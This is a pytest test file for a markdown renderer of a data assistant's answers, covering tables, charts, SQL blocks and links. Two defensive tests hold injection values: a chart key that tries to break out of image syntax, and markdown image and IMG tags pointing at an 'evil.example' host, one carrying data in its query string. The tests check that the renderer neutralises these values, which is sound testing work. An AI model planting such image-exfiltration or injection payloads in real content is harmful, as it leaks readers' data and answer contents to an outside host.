from __future__ import annotations

import tracemalloc

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dot_provider.api.answer import MAX_ROWS, Answer, AnswerChart, AnswerTable
from dot_provider.api.answer_markdown import MAX_INLINE_CHART, answer_markdown, table_markdown

PNG = b"\x89PNG"
ALIGNED = "region         orders\nAsia           6,797\nNorth America  4,719"


def test_an_answer_is_rendered_from_question_to_link() -> None:
    answer = Answer(
        text="**7** orders.",
        chat_id="c",
        url="https://app.getdot.ai/?c=c",
        question="How many\n  orders?",
        tables=(AnswerTable("df_1", preview="n,day\n7,Mon", summary="1 row", shape=(1, 2)),),
        charts=(AnswerChart("chart_1", "falling"),),
        sql="select 1",
        suggested_follow_ups=("Why?", "Since when?"),
    )
    assert answer_markdown(answer, {"chart_1": PNG}) == "\n\n".join(
        [
            "**How many orders?**",
            "**7** orders.",
            "| n | day |\n| --- | --- |\n| 7 | Mon |",
            "_1 row, 2 columns · 1 row_",
            "![chart_1](data:image/png;base64,iVBORw==)",
            "falling",
            "```sql\nselect 1\n```",
            "Dot suggests to ask next:\n\n- Why?\n- Since when?",
            "Open in Dot: <https://app.getdot.ai/?c=c>",
        ]
    )


def test_a_table_that_the_text_shows_is_not_shown_again() -> None:
    text = "Orders by day:\n\n| day | n |\n| --- | --- |\n| Mon | 7 |"
    answer = Answer(text, "c", "https://app.getdot.ai/?c=c", tables=(AnswerTable("df_1", preview="day,n\nMon,7"),))
    assert answer_markdown(answer).count("| Mon | 7 |") == 1


def test_an_aligned_table_that_the_text_shows_is_not_shown_again() -> None:
    text = "| region | orders |\n| --- | --- |\n| Asia | 6,797 |\n| North America | 4,719 |"
    answer = Answer(text, "c", "https://app.getdot.ai/?c=c", tables=(AnswerTable("df_1", preview=ALIGNED),))
    assert "```" not in answer_markdown(answer)


def test_an_answer_of_text_alone_is_its_text_and_link() -> None:
    assert answer_markdown(Answer("7", "c", "https://x")) == "7\n\nOpen in Dot: <https://x>"


@pytest.mark.parametrize("charts", [None, {}, {"chart_1": b""}, {"chart_1": bytes(MAX_INLINE_CHART + 1)}])
def test_a_chart_that_is_absent_or_too_large_is_not_embedded(charts: dict[str, bytes] | None) -> None:
    answer = Answer("7", "c", "https://x", charts=(AnswerChart("chart_1", "falling"),))
    assert answer_markdown(answer, charts) == "7\n\nfalling\n\nOpen in Dot: <https://x>"


def test_the_key_of_a_chart_cannot_end_its_picture() -> None:
    key = "a](http://evil)\n"
    rendered = answer_markdown(Answer("7", "c", "https://x", charts=(AnswerChart(key),)), {key: PNG})
    assert "\n![a" in rendered
    assert "](http://evil" not in rendered


def test_sql_cannot_end_its_block() -> None:
    assert "````sql\nselect '```'\n````" in answer_markdown(Answer("7", "c", "https://x", sql="select '```'"))


@pytest.mark.parametrize(
    ("preview", "lines"),
    [
        ("a,b\n1,2", ["| a | b |", "| --- | --- |", "| 1 | 2 |"]),
        ('a,b\n"x|y","two\nlines"', ["| a | b |", "| --- | --- |", "| x\\|y | two lines |"]),
        ("a,b\n1\n1,2\n\n", ["| a | b |", "| --- | --- |", "| 1 |  |", "| 1 | 2 |"]),
        ("a,b\n1,2,3", ["```", "a,b", "1,2,3", "```"]),
        ("a\x00,b", ["| a | b |", "| --- | --- |"]),
        ("n\n7", ["| n |", "| --- |", "| 7 |"]),
        ("", []),
        (ALIGNED, ["```", *ALIGNED.split("\n"), "```"]),
    ],
)
def test_a_preview_becomes_a_markdown_table(preview: str, lines: list[str]) -> None:
    assert table_markdown(AnswerTable("df_1", preview=preview)).splitlines() == lines


def test_a_long_preview_is_cut() -> None:
    rows = "\n".join(["n", *map(str, range(MAX_ROWS + 9))])
    aligned = "\n".join(["a  b", *(f"{n}  {n}" for n in range(MAX_ROWS + 9))])
    assert len(table_markdown(AnswerTable("df_1", preview=rows)).splitlines()) == MAX_ROWS + 2
    assert len(table_markdown(AnswerTable("df_1", preview=aligned)).splitlines()) == MAX_ROWS + 3


@pytest.mark.parametrize("separator", [",", "  "])
def test_no_more_of_a_huge_preview_is_parsed_than_is_shown(separator: str) -> None:
    """Neither its cells nor a copy of it are ever in memory."""
    preview = f"a{separator}b\n" + f"1234567{separator}7654321\n" * 200_000
    table = AnswerTable("df_1", preview=preview)
    tracemalloc.start()
    rendered = answer_markdown(Answer("7", "c", "https://x", tables=(table,)))
    rows = table.rows
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert rendered.count("1234567") == len(rows) == MAX_ROWS
    assert peak < len(preview) / 2


def test_a_preview_that_no_csv_reader_takes_is_shown_as_it_is() -> None:
    table = AnswerTable("df_1", preview="a,b\n" + "x" * 200_000)
    assert table_markdown(table).startswith("```\na,b\n")
    assert table.rows == []


@given(st.text(), st.text(), st.text(), st.text())
def test_no_text_breaks_the_rendering(preview: str, summary: str, sql: str, key: str) -> None:
    table = AnswerTable(key, preview=preview, summary=summary)
    answer = Answer("7", "c", "https://x", tables=(table,), charts=(AnswerChart(key),), sql=sql)
    assert answer_markdown(answer, {key: PNG}).endswith("Open in Dot: <https://x>")
    assert all(isinstance(value, str) for row in table.rows for value in row)


def test_pictures_of_others_become_links_and_what_loads_something_becomes_text() -> None:
    """Whoever wrote into Dot's data would otherwise learn who opens the page, and what else the answer says."""
    text = "![x](https://evil.example/?d=7) <IMG src=//evil.example> [link](https://a.example) <https://b.example> a<b"
    assert answer_markdown(Answer(text=text, chat_id="c", url="https://dot")).partition("\n")[0] == (
        "[x](https://evil.example/?d=7) &lt;IMG src=//evil.example> [link](https://a.example) <https://b.example> a<b"
    )
